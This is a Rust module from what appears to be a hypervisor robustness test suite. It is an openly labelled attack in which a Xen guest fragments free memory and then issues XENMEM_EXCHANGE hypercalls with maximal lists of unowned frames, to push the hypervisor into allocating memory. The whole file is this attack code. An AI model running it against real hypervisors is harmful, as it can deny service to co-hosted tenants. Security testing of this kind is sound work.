//! An attack that makes the hypervisor allocate memory.

use alloc::vec;

use frontends::control::shutdown_request;
use frontends::xenbus::{StoreError, Xenstore};
use pvrt::println;
use pvrt::space::*;
use ring_abi::hypercall::*;
use ring_abi::memory::{XENMEM_EXCHANGE, XenMemoryExchange};

use crate::memory::reservation;
use crate::scatter;

/// Pages of an exchange that is done in one piece.
const PIECE: usize = 512;

/// Fragments free memory, so that the hypervisor's heap finds no adjacent free frames. When the toolstack has asked
/// this domain twice to shut down, exchanges memory by the longest lists that the hypervisor reads at once. Each
/// exchange is refused, since the lists name frames that no domain owns.
pub(super) async fn scattered_lists(store: Xenstore) -> Result<(), StoreError> {
    let mut frames = vec![0u64; PIECE];
    if !scatter::run() {
        return Ok(());
    }
    println!("scattered-lists: no free frames in a row");
    for _ in 0..2 {
        shutdown_request(&store).await?;
    }
    let list = frames.as_mut_ptr() as u64;
    for (order, other) in [(0, 9), (9, 0)] {
        let mut arg = XenMemoryExchange {
            r#in: reservation(list, PIECE as u64 >> order, order),
            out: reservation(list, PIECE as u64 >> other, other),
            nr_exchanged: 0,
        };
        let got = op(__HYPERVISOR_MEMORY_OP, XENMEM_EXCHANGE, &mut arg);
        println!("scattered-lists: an exchange gives {got}");
    }
    println!("scattered-lists: done");
    core::future::pending().await
}
